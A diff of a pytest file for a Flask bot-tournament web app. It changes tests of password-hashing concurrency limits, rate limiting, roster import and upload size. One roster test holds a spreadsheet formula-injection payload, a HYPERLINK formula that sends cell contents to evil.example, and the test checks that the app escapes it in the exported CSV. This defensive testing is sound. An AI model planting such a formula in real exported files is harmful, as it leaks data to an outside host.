@@ -12,10 +12,9 @@ import threading
 import time
 from collections.abc import Iterator
 from pathlib import Path
-from typing import Any, Literal
+from typing import Any
 
 import pytest
-from argon2 import PasswordHasher
 from click.testing import CliRunner
 from flask import Flask
 from flask.testing import FlaskClient
@@ -28,7 +27,15 @@ from arena.store.db import Store
 from arena.store.models import Bot, BotVersion, Tournament, Upload, User
 from tests.paths import REFERENCE_BOTS
 from tests.uploads import store_upload
-from tests.web.conftest import HASHER, PASSWORD, csrf_token, logged_in, make_app, store_bots
+from tests.web.conftest import (
+    HASHER,
+    PASSWORD,
+    SlowHasher,
+    csrf_token,
+    logged_in,
+    make_app,
+    store_bots,
+)
 from web.limits import LOGIN_ADDRESS_LIMIT, SIGNUP_LIMIT
 
 # --- findings 6, 8: server errors on bad input; the regression test's own edges ---------------
@@ -259,31 +266,15 @@ def _attempt_signup(app: Flask, name: str) -> int:
     return client.post("/signup", data=data).status_code
 
 
-class SlowHasher(PasswordHasher):
-    """The cheap hasher, each hash and verify taking ``seconds`` as argon2's defaults do on
-    a loaded machine; it counts its calls."""
-
-    def __init__(self, seconds: float) -> None:
-        super().__init__(time_cost=1, memory_cost=8, parallelism=1)
-        self.seconds = seconds
-        self.calls: list[str] = []
-
-    def hash(self, password: str | bytes, *, salt: bytes | None = None) -> str:
-        self.calls.append("hash")
-        time.sleep(self.seconds)
-        return super().hash(password, salt=salt)
-
-    def verify(self, hash: str | bytes, password: str | bytes) -> Literal[True]:
-        self.calls.append("verify")
-        time.sleep(self.seconds)
-        return super().verify(hash, password)
-
-
 @pytest.fixture
 def slow_app(store: Store, url: str, tmp_path: Path) -> Iterator[tuple[Flask, SlowHasher]]:
-    """The app with one hash at a time, each taking a second."""
+    """The app with one hash at a time, each taking a second, and no line in front of it
+    (what a full line does: tests/web/test_crowds.py has the line)."""
     hasher = SlowHasher(1.0)
-    app = make_app(url, tmp_path / "broker", ARENA_PASSWORD_HASHER=hasher, ARENA_HASH_SLOTS=1)
+    app = make_app(
+        url, tmp_path / "broker", ARENA_PASSWORD_HASHER=hasher, ARENA_HASH_SLOTS=1,
+        ARENA_HASH_QUEUE=0,
+    )  # fmt: skip
     yield app, hasher
     app.extensions["arena_store"].close()
 
@@ -325,7 +316,7 @@ def test_a_classroom_behind_one_address_signs_up_and_logs_in_within_a_minute(
     assert time.monotonic() - started < 60
 
 
-def test_concurrent_logins_beyond_the_hashing_bound_are_refused_at_once(
+def test_concurrent_logins_beyond_the_hashing_bound_and_its_line_are_refused_at_once(
     slow_app: tuple[Flask, SlowHasher],
 ) -> None:
     app, hasher = slow_app
@@ -356,7 +347,7 @@ def test_concurrent_logins_beyond_the_hashing_bound_are_refused_at_once(
     busy = [r for r in results if r[0] == 503]
     assert sorted(r[0] for r in results).count(401) >= 1
     assert len(busy) >= 5, [r[:3] for r in results]  # not queued behind the running hash
-    assert all(seconds < 0.8 and retry == "1" for _, seconds, retry, _ in busy), [
+    assert all(seconds < 0.8 and retry and int(retry) >= 1 for _, seconds, retry, _ in busy), [
         r[:3] for r in busy
     ]
     assert all("busy checking other passwords" in body for *_, body in busy)
@@ -413,8 +404,9 @@ def test_a_flood_refused_as_busy_still_ends_in_429(store: Store, url: str, tmp_p
     # they count against the address's posts of password forms: a flood that would keep
     # the bound busy for everyone is cut off.
     app = make_app(
-        url, tmp_path / "broker", ARENA_HASH_SLOTS=1, ARENA_PASSWORD_FORM_LIMIT="20 per minute"
-    )
+        url, tmp_path / "broker", ARENA_HASH_SLOTS=1, ARENA_HASH_QUEUE=0,
+        ARENA_PASSWORD_FORM_LIMIT="20 per minute",
+    )  # fmt: skip
     try:
         client = app.test_client()
         token = csrf_token(client)
@@ -941,7 +933,8 @@ def test_a_roster_real_name_read_as_a_formula_is_quoted_in_the_logins_csv(
     _class_with_teacher_student(store)
     tess = logged_in(app, "tess")
     roster = '"=HYPERLINK(""http://evil.example/?""&A1,""click"")"\n-2+3\nAda Lovelace\n'
-    data = {"csrf_token": csrf_token(tess, "/classes/maths/roster"), "text": roster}
+    data = {"csrf_token": csrf_token(tess, "/classes/maths/roster"), "text": roster,
+            "action": "import"}  # fmt: skip
     page = tess.post("/classes/maths/roster", data=data).get_data(as_text=True)
     found = re.search(r'name="csv" value="([^"]*)"', page)
     assert found, "no CSV on the logins page"
@@ -1012,7 +1005,7 @@ def test_a_roster_file_past_the_request_limit_is_told_about_rosters(
     )
     assert refused.status_code == 413
     text = refused.get_data(as_text=True)
-    assert "a roster file is at most 64 KiB" in text and "Python file" not in text
+    assert "a roster file is at most 512 KiB" in text and "Python file" not in text
 
 
 @pytest.mark.backends("sqlite", "postgresql")  # PostgreSQL's text refuses NUL
